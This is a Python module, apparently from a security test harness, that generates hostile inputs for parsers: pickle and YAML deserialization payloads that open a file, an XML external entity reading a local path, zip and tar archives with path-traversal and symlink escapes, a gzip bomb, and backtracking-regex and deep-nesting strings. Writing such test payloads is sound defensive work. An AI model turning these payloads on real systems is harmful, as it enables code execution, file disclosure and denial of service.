"""What has to be unpacked, parsed or matched before it does harm."""

import base64
import gzip
import io
import tarfile
import zipfile
from collections.abc import Iterator, Mapping
from functools import cache
from typing import Any, Final

ZEROS: Final = 80 * 2**20  # bytes; a thousandth of them when packed
LONGEST: Final = 20_000  # characters; what is quadratic takes seconds
NESTED: Final = 2_000  # brackets; twice as deep as Python calls itself
#: A pattern that backtracks, and the text on which it never comes to an end.
ENDLESS: Final = "(a+)+$"
ALMOST: Final = "a" * 40 + "!"


def parcels(name: str, mark: str, secret: str) -> Iterator[tuple[str, str]]:
    """Yield a name and a text for each attack on what reads a format.

    Args:
        name: Of the file that an archive puts outside.
        mark: The file that an executed payload leaves behind.
        secret: The path of a file outside.
    """
    pickled = f"cio\nopen\n(V{mark}\nVw\ntR."
    yield "pickle", base64.b64encode(pickled.encode()).decode()
    yield "pickle in hexadecimal", pickled.encode().hex()
    yield "pickle as text", pickled
    yield "YAML", f"!!python/object/apply:io.open ['{mark}', 'w']"
    entity = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{secret}">]>'
    yield "XML", f"{entity}<x>&e;</x>"
    yield "zip", base64.b64encode(zipped(name)).decode()
    yield "tar", base64.b64encode(tarred(name)).decode()
    yield "tar with a link", base64.b64encode(linked(name)).decode()
    yield "gzip of zeros", base64.b64encode(blown()).decode()
    yield "zip in the workspace", "archive.zip"
    yield "tar in the workspace", "archive.tar"


@cache
def zipped(name: str) -> bytes:
    """Return an archive whose file leads out of where it is unpacked."""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        archive.writestr(f"../outside/{name}.zip", name)
    return held.getvalue()


@cache
def blown() -> bytes:
    """Return a little that takes much memory when it is unpacked."""
    return gzip.compress(bytes(ZEROS), mtime=0)


@cache
def tarred(name: str) -> bytes:
    """Return the same as a tape archive."""
    return _tape(_member(f"../outside/{name}.tar", name))


@cache
def linked(name: str) -> bytes:
    """Return one whose file goes through a link that it brings along."""
    link = tarfile.TarInfo("out")
    link.type, link.linkname = tarfile.SYMTYPE, "../outside"
    return _tape((link, b""), _member(f"out/{name}.tar", name))


def _member(path: str, text: str) -> tuple[tarfile.TarInfo, bytes]:
    file = tarfile.TarInfo(path)
    file.size = len(text)
    return file, text.encode()


def _tape(*members: tuple[tarfile.TarInfo, bytes]) -> bytes:
    held = io.BytesIO()
    with tarfile.open(fileobj=held, mode="w") as archive:
        for member, data in members:
            archive.addfile(member, io.BytesIO(data))
    return held.getvalue()


def filling(schema: Mapping[str, Any]) -> Iterator[tuple[str, str]]:
    """Yield texts as long as a schema allows that make parsers work hard.

    A letter too many at the end of what a pattern looks for makes one that
    backtracks try all ways there are; brackets make others call themselves.
    """
    size = max(2, min(int(schema.get("maxLength", LONGEST)), LONGEST))
    yield "a long word", "a" * (size - 1) + "!"
    yield "a long number", "1" * (size - 1) + "!"
    yield "many blanks", " " * (size - 1) + "!"
    yield "many brackets", "[" * min(size, NESTED)
    yield "many parentheses", "(" * min(size, NESTED)
